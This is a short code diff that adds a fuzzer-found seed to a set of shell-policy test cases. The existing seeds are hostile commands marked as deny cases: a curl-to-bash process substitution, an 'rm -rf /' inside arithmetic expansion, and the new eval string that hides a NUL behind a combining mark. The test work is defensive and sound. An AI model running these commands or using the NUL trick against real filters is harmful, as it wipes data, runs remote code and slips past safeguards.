@@ -317,6 +317,8 @@ def shell_seeds():
         "deny-deep": ("0", "$(" * 80 + "ls" + ")" * 80),
         "deny-process-substitution": ("1", "bash <(curl -s https://x)"),
         "deny-arith-substitution": ("1", "echo $(( $(rm -rf /) ))"),
+        # Found by the fuzzer: a NUL followed by a combining mark is one Character, but still a NUL to the policy.
+        "deny-nul-combining": ("1", "eval \"$CMD\x00\u035e\" calls"),
     }
     for name, (selector, command) in seeds.items():
         write(SHELL, name + ".sh", selector + command)
